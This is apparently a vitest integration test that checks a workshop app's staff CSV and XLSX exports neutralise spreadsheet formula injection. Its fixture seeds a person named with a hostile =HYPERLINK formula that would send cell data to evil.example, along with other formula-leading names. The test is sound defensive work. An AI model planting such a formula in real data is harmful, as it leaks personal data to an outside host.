import SQLite from "better-sqlite3";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { logIn } from "../support/log-in";
import { startTestServer, type TestServer } from "../support/server";

/**
 * Names that a spreadsheet would run as formulas (OWASP "CSV injection") come out of
 * every staff export as text: neutralised in CSV, plain string cells in the XLSX twin,
 * where phones keep their "+" and dates are dates.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Ver")';
const HYPERLINK_PHONE = "+51987650001";
const OTHERS = ["+1", "-1", "@SUM(A1)", "\t=1+1 Tab", "\r=1+1 CR"];
const FORMULA_START = /^[=+\-@\t\r]/;

let server: TestServer;
const cookies: Record<string, string> = {};
let personIds: number[] = [];
/** Staff export personal data only of people without a login: one such person carries the formula name too. */
let ledgerPersonId = 0;
const LEDGER_PHONE = "+51987650099";
const WORKSHOP = { id: 0, sessionId: 0 };
const COURSE = "finanzas-basicas";

async function post(path: string, fields: Record<string, string>, cookie?: string) {
  return fetch(server.url + path, {
    method: "POST",
    redirect: "manual",
    body: new URLSearchParams(fields),
    headers: { "Content-Type": "application/x-www-form-urlencoded", ...(cookie ? { Cookie: cookie } : {}) },
  });
}
const cookieOf = (response: Response) => response.headers.get("Set-Cookie")!.split(";")[0];

beforeAll(async () => {
  server = await startTestServer();
  for (const [role, email] of [
    ["facilitator", "facilitadora@minka.test"],
    ["manager", "gestora@minka.test"],
  ] as const) {
    cookies[role] = await logIn(server, email);
  }
  // One of them signs up through the form (the phone is their login)…
  const signup = await post("/signup", {
    fullName: HYPERLINK,
    identifier: "987 650 001",
    password: "una-clave-larga-2026",
    country: "PE",
    consent: "on",
  });
  expect(signup.status).toBe(302);
  cookies.member = cookieOf(signup);

  // …and all of them come to a workshop of the demo facilitator, enrol in a course and belong to a cooperative of that name.
  const db = new SQLite(server.databaseFile);
  try {
    const now = new Date().toISOString();
    const workshop = db
      .prepare(
        `select w.id, min(s.id) as sessionId from workshop w
           join workshop_facilitator f on f.workshop_id = w.id join account a on a.id = f.account_id and a.email = 'facilitadora@minka.test'
           join workshop_session s on s.workshop_id = w.id
         where s.starts_at < ? group by w.id order by w.id limit 1`,
      )
      .get(now) as { id: number; sessionId: number };
    Object.assign(WORKSHOP, workshop);
    const course = db.prepare("select id from course where slug = ?").get(COURSE) as { id: number };
    const member = db.prepare("select id from person where phone = ?").get(HYPERLINK_PHONE) as { id: number };
    const insertPerson = db.prepare(
      "insert into person (full_name, name_key, phone, sex, birth_year, country, cooperative, preferred_language, updated_at) values (?, ?, ?, 'female', 1960, 'PE', ?, 'es', ?) returning id",
    );
    const others = OTHERS.map(
      (name, i) => (insertPerson.get(name, name.toLowerCase(), `+5198765001${i}`, name, now) as { id: number }).id,
    );
    db.prepare("update person set cooperative = ? where id = ?").run(HYPERLINK, member.id);
    ledgerPersonId = (
      insertPerson.get(HYPERLINK, HYPERLINK.toLowerCase(), LEDGER_PHONE, HYPERLINK, now) as { id: number }
    ).id;
    personIds = [member.id, ...others];
    for (const personId of personIds) {
      db.prepare(
        "insert into registration (workshop_id, person_id, status, method, created_at, updated_at) values (?, ?, 'registered', 'walk_in', ?, ?)",
      ).run(workshop.id, personId, now, now);
      db.prepare(
        "insert into attendance (session_id, person_id, status, source, recorded_at) values (?, ?, 'present', 'roll_call', ?)",
      ).run(workshop.sessionId, personId, now);
      db.prepare("insert into enrolment (person_id, course_id, method, enrolled_at) values (?, ?, 'self', ?)").run(
        personId,
        course.id,
        now,
      );
    }
  } finally {
    db.close();
  }
}, 120_000);
afterAll(() => server.stop());

/** Every staff export, as a path without the format. */
function exports(): Array<{
  name: string;
  path: string;
  role: "facilitator" | "manager" | "member";
  csv: string;
  dated: boolean;
}> {
  return [
    {
      name: "registrations",
      path: `/staff/workshops/${WORKSHOP.id}/registrations.csv`,
      role: "facilitator",
      csv: "",
      dated: true,
    },
    {
      name: "attendance",
      path: `/staff/workshops/${WORKSHOP.id}/attendance.csv`,
      role: "facilitator",
      csv: "",
      dated: false,
    },
    { name: "course", path: `/staff/courses/${COURSE}/export`, role: "facilitator", csv: "", dated: true },
    { name: "report", path: "/reports/export?period=all", role: "manager", csv: "format=csv", dated: true },
    {
      name: "person data",
      path: `/staff/people/${ledgerPersonId}/data`,
      role: "manager",
      csv: "format=csv",
      dated: true,
    },
    { name: "own data", path: "/account/data/download", role: "member", csv: "format=csv", dated: true },
  ];
}

const withQuery = (path: string, query: string) => (query ? `${path}${path.includes("?") ? "&" : "?"}${query}` : path);

describe("staff exports and formulas", () => {
  it("neutralises every CSV cell that starts with = + - @ tab or CR", async () => {
    for (const e of exports()) {
      const response = await fetch(server.url + withQuery(e.path, e.csv), { headers: { Cookie: cookies[e.role] } });
      expect(response.status, e.name).toBe(200);
      expect(response.headers.get("Content-Type"), e.name).toBe("text/csv; charset=utf-8");
      const cells = (parse(await response.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(
        cells.filter((cell) => FORMULA_START.test(cell)),
        e.name,
      ).toEqual([]);
      // Still there, readable, behind a single quote.
      expect(cells, e.name).toContain(`'${HYPERLINK}`);
    }
  });

  it("gives every staff export an XLSX twin with typed cells: names and phones as text, dates as dates", async () => {
    for (const e of exports()) {
      const response = await fetch(server.url + withQuery(e.path, "format=xlsx"), {
        headers: { Cookie: cookies[e.role] },
      });
      expect(response.status, e.name).toBe(200);
      expect(response.headers.get("Content-Type"), e.name).toBe(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      );
      expect(response.headers.get("Content-Disposition"), e.name).toMatch(/\.xlsx"$/);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await response.arrayBuffer());
      const cells: ExcelJS.Cell[] = [];
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
      expect(
        cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula),
        e.name,
      ).toEqual([]);

      const named = cells.filter((cell) => cell.value === HYPERLINK);
      expect(named.length, e.name).toBeGreaterThan(0);
      for (const cell of named) expect(cell.type, e.name).toBe(ExcelJS.ValueType.String);
      if (e.name !== "report") {
        expect(
          cells.some(
            (cell) =>
              cell.value === (e.name === "person data" ? LEDGER_PHONE : HYPERLINK_PHONE) &&
              cell.type === ExcelJS.ValueType.String,
          ),
          `${e.name}: phone with its +`,
        ).toBe(true);
      }
      for (const name of OTHERS) {
        if (e.name === "person data" || e.name === "own data") continue;
        expect(
          cells.some((cell) => cell.value === name && cell.type === ExcelJS.ValueType.String),
          `${e.name}: ${JSON.stringify(name)}`,
        ).toBe(true);
      }
      if (e.dated) {
        const dates = cells.filter((cell) => cell.type === ExcelJS.ValueType.Date);
        expect(dates.length, `${e.name}: date cells`).toBeGreaterThan(0);
        for (const cell of dates) {
          expect(cell.value, e.name).toBeInstanceOf(Date);
          expect(cell.numFmt, e.name).toMatch(/yy/);
        }
      }
    }
  });

  it("links the XLSX twin next to each CSV on the staff pages", async () => {
    const pages = [
      {
        path: `/staff/workshops/${WORKSHOP.id}`,
        href: `/staff/workshops/${WORKSHOP.id}/registrations.csv?format=xlsx`,
        role: "facilitator",
      },
      {
        path: `/staff/workshops/${WORKSHOP.id}/attendance`,
        href: `/staff/workshops/${WORKSHOP.id}/attendance.csv?format=xlsx`,
        role: "facilitator",
      },
      { path: `/staff/courses/${COURSE}`, href: `/staff/courses/${COURSE}/export?format=xlsx`, role: "facilitator" },
      { path: "/account", href: "/account/data/download?format=xlsx", role: "member" },
    ];
    for (const page of pages) {
      const html = await (await fetch(server.url + page.path, { headers: { Cookie: cookies[page.role] } })).text();
      expect(html, page.path).toContain(`href="${page.href}"`);
    }
  });
});
